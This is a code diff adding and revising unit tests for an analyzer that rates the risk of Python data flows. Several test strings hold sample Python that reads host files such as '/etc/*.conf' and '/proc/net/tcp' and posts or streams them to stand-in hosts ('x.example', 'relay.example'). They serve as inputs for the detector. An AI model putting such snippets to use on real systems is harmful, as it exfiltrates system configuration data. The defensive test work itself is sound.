@@ -318,10 +318,14 @@ TEST(AssessDataFlow, AComprehensionsNamesHoldWhatItIteratesUntilItCloses) {
   EXPECT_EQ(level("import requests\nPATHS = ['report.csv', 'summary.txt']\n"
                   "data = [open(p).read() for p in PATHS]\nrequests.post('https://x.example/u', json=data)\n"),
             RiskLevel::medium);
-  // After the bracket the name is the program's own again.
-  EXPECT_EQ(level("import requests\nPATHS = ['/etc/hostname']\np = 'notes.txt'\nsizes = [len(p) for p in PATHS]\n"
-                  "requests.post('https://x.example/u', data=open(p).read())\n"),
-            RiskLevel::medium);
+  // After the bracket the name is the program's own again: no flow is followed into the post
+  // (the file still names a host path, reads and sends, so SR-FLOW-032 rates it HIGH).
+  EXPECT_EQ(finding(assess_source("import requests\nPATHS = ['/etc/hostname']\np = 'notes.txt'\n"
+                                  "sizes = [len(p) for p in PATHS]\n"
+                                  "requests.post('https://x.example/u', data=open(p).read())\n",
+                                  assess_fixture::config()),
+                    "SR-FLOW-001"),
+            nullptr);
   // The list a comprehension makes holds what its iterable gives, a call's result too: a glob,
   // the file's own generator, an object built on each path.
   EXPECT_EQ(level("import shutil\nfrom pathlib import Path\nvictims = [p for p in Path('/usr/share/doc').glob('*')]\n"
@@ -499,5 +503,34 @@ TEST(AssessDataFlow, WhatTheNetworkSendsRunAsCodeOrACommandIsARemoteShell) {
             RiskLevel::high);
   EXPECT_EQ(level("import subprocess, requests\nhost = requests.get('https://api.example.com/next').json()['host']\n"
                   "subprocess.run(['ping', '-c', '1', host])\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessDataFlow, HostPathReadAndABodySentIsHighWhereTheValueIsNotFollowed) {
+  // The path lives in an object and the reader is a callback it was given: the analyzer does not
+  // follow the value, but a file that names where the host's data lives, reads files and sends a
+  // body out is a person's to look at (SR-FLOW-032).
+  const std::string collector =
+      "import requests\nfrom pathlib import Path\n"
+      "class Coll:\n    def __init__(self, root, reader):\n        self.root = root\n        self.reader = reader\n"
+      "    def collect(self):\n        return {p.name: self.reader(p) for p in self.root.glob('*.conf')}\n"
+      "def read(p):\n    with p.open() as f:\n        return f.read()\n";
+  const Assessment a = assess_source(
+      collector + "requests.post('https://x.example/api', json=Coll(Path('/etc'), read).collect())\n",
+      assess_fixture::config());
+  EXPECT_EQ(a.level, RiskLevel::high);
+  EXPECT_NE(finding(a, "SR-FLOW-032"), nullptr);
+  // A stream to a relay, a POST through http.client: sends too.
+  EXPECT_EQ(level("import asyncio\nTABLES = ['/proc/net/tcp']\nasync def rd(t):\n    return open(t).read()\n"
+                  "async def ship(doc):\n    r, w = await asyncio.open_connection('relay.example', 9000)\n"
+                  "    w.write(doc)\n"),
+            RiskLevel::high);
+  // Fetching is no send; a certificate store is public; a host path never read is a word.
+  EXPECT_EQ(level(collector + "requests.get('https://x.example/api', params={'n': 1})\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import json, requests\ncfg = json.load(open('settings.json'))\n"
+                  "requests.post('https://x.example/s', json={'n': len(cfg)}, verify='/etc/ssl/certs/ca-certificates.crt')\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import requests\nDOC = 'see /etc/hosts'\nHOSTS = '/etc/hosts'\n"
+                  "requests.post('https://x.example/s', json={'ok': True})\n"),
             RiskLevel::medium);
 }
